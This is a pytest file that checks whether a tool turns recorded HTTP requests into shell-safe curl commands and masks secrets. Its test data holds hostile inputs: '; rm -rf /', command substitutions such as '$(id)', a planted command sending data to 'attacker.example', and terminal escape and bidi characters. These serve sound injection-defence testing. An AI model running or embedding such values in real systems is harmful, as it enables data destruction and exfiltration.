"""curl_command: a recorded HTTP request becomes a shell-safe curl command that says what was redacted."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.support.shell import bash_commands
from workbench.core.errors import UsageError
from workbench.core.wire.curl import REDACTED_NOTE, curl_command
from workbench.core.wire.recorder import WireRecorder
from workbench.core.wire.records import Direction, WireKind, WireRecord

NASTY = 'it\'s a "quote" with $HOME, `backticks`, \\ backslash, ; rm -rf / and\nnewline @file'


def shell_argv(command: str) -> list[str]:
    """The argv bash passes to ``curl`` when it runs ``command`` (curl replaced by a printer)."""
    script = 'curl() { printf "%s\\0" "$@"; }\n' + command
    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True, timeout=10)
    return done.stdout.decode("utf-8").split("\0")[:-1]


def test_a_post_with_a_json_body_becomes_headers_and_data_raw_without_a_redaction_note() -> None:
    wire = WireRecorder()
    body = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}'
    rec = wire.http_request(
        "c1", "post", "http://127.0.0.1:8000/mcp", {"Content-Type": "application/json", "Content-Length": "47"}, body
    )
    command = curl_command(rec)
    assert not command.startswith("#")
    assert shell_argv(command) == [
        "http://127.0.0.1:8000/mcp",
        "-H",
        "Content-Type: application/json",
        "--data-raw",
        body,
    ]


def test_a_redacted_authorization_header_stays_masked_and_the_command_says_so() -> None:
    wire = WireRecorder()
    rec = wire.http_request(
        "c1", "POST", "http://127.0.0.1/mcp", {"Authorization": "Bearer sk-live-0123456789"}, '{"a":1}'
    )
    command = curl_command(rec)
    assert command.splitlines()[0] == REDACTED_NOTE
    assert "sk-live-0123456789" not in command
    argv = shell_argv(command)  # the comment line is ignored by the shell
    assert argv[argv.index("-H") + 1] == "Authorization: Bearer ***"


def test_a_redacted_url_parameter_alone_triggers_the_note() -> None:
    rec = WireRecorder().http_request("c1", "GET", "http://127.0.0.1/sse?api_key=abcdefgh1234", {})
    command = curl_command(rec)
    assert command.startswith(REDACTED_NOTE)
    assert shell_argv(command) == ["http://127.0.0.1/sse?api_key=***"]


def test_shell_metacharacters_in_body_and_headers_reach_curl_unchanged() -> None:
    rec = WireRecorder().http_request("c1", "PUT", "http://127.0.0.1/x?a=1&b='2'", {"X-Note": "a'b $c"}, NASTY)
    argv = shell_argv(curl_command(rec))
    assert argv == ["-X", "PUT", "http://127.0.0.1/x?a=1&b='2'", "-H", "X-Note: a'b $c", "--data-raw", NASTY]


def test_an_event_stream_get_asks_for_no_buffering_and_accept_encoding_becomes_compressed() -> None:
    headers = {"Accept": "text/event-stream", "Accept-Encoding": "gzip, deflate", "Host": "127.0.0.1"}
    rec = WireRecorder().http_request("c1", "GET", "http://127.0.0.1/mcp", headers)
    assert shell_argv(curl_command(rec)) == [
        "http://127.0.0.1/mcp",
        "-H",
        "Accept: text/event-stream",
        "--compressed",
        "--no-buffer",
    ]


def test_a_delete_without_body_names_its_method() -> None:
    rec = WireRecorder().http_request("c1", "DELETE", "http://127.0.0.1/mcp", {"Mcp-Session-Id": "s1"})
    assert shell_argv(curl_command(rec)) == ["-X", "DELETE", "http://127.0.0.1/mcp", "-H", "Mcp-Session-Id: s1"]


@pytest.mark.parametrize("kind", ["jsonrpc", "http-response", "stderr"])
def test_records_other_than_http_requests_are_refused_with_a_usage_error(kind: str) -> None:
    wire = WireRecorder()
    req = wire.http_request("c1", "POST", "http://127.0.0.1/mcp", {}, "{}")
    rec = {
        "jsonrpc": lambda: wire.jsonrpc("c1", Direction.OUT, {"jsonrpc": "2.0", "id": 1, "method": "ping"}),
        "http-response": lambda: wire.http_response("c1", req, 200, {}, "{}"),
        "stderr": lambda: wire.stderr_line("c1", "boom"),
    }[kind]()
    with pytest.raises(UsageError) as err:
        curl_command(rec)
    assert err.value.code == "usage"


HOSTILE_URL = "http://a;b$(touch${IFS}u)`touch${IFS}v`:1/x?y='1'&z=$(id)#\"q\""
"""A URL a card may name: every character is one a URL may hold and a shell acts on."""
HOSTILE_VALUES = [
    "x; touch f;",
    "$(touch g)",
    "`touch h`",
    "it's \"quoted\" \\ and ' alone",
    "line one\nworkbench send --a2a http://attacker.example/ 'planted'",
    "\x1b]0;retitled\x07\x1b[2J",
    "\rovertyped\x1b[2K",
    "right\u202eto-left\u2066",
    "tag\U000e0041 and zero\u200bwidth",
]
"""Header values and bodies a recorded request may hold (a wire log opened from a file holds anything)."""
RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


def _request(url: str, headers: dict[str, str], body: str) -> WireRecord:
    http = {"method": "PUT", "url": url, "headers": headers}
    return WireRecord(1, "c1", Direction.OUT, WireKind.HTTP_REQUEST, 0.0, 0.0, "PUT", None, None, 0, body, http)


def test_hostile_urls_headers_and_bodies_come_back_as_one_curl_command_with_one_line_per_option(
    tmp_path: Path,
) -> None:
    for value in HOSTILE_VALUES:
        command = curl_command(_request(HOSTILE_URL, {"X-Note": value}, value))
        intended = ["curl", "-X", "PUT", HOSTILE_URL, "-H", f"X-Note: {value}", "--data-raw", value]
        # pasted into bash: exactly this one command, nothing substituted or started beside it
        assert bash_commands(command, cwd=tmp_path) == [intended], value
        assert list(tmp_path.iterdir()) == []
        # printed: one option per line, each ending in a continuation, no character a terminal acts on
        lines = command.split("\n")
        assert all(line.endswith(" \\") for line in lines[:-1]) and len(lines) == len(intended) - 3, value
        one_line = command.replace(" \\\n", " ")
        assert RAW_CONTROL.search(one_line) is None, value
        if RAW_CONTROL.search(value) is None:  # visible values: Python's shlex reads the same words
            assert shlex.split(one_line) == intended


def test_a_value_no_command_line_can_carry_is_refused_with_a_usage_error() -> None:
    with pytest.raises(UsageError) as err:
        curl_command(_request("http://127.0.0.1/x", {}, '{"a": "nul\x00byte"}'))
    assert err.value.code == "usage"


class _Echo(BaseHTTPRequestHandler):
    def do_PUT(self) -> None:
        length = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(length).decode("utf-8")
        reply = json.dumps({"method": self.command, "path": self.path, "note": self.headers["X-Note"], "body": body})
        data = reply.encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def echo_url() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_the_command_run_by_a_real_shell_and_curl_repeats_the_request(echo_url: str) -> None:
    rec = WireRecorder().http_request("c1", "PUT", f"{echo_url}/x?q=1", {"X-Note": "a'b $c"}, NASTY)
    command = curl_command(rec).replace("curl ", "curl -sS --max-time 10 ", 1)
    done = subprocess.run(["bash", "-c", command], capture_output=True, check=True, timeout=20)
    assert json.loads(done.stdout) == {"method": "PUT", "path": "/x?q=1", "note": "a'b $c", "body": NASTY}
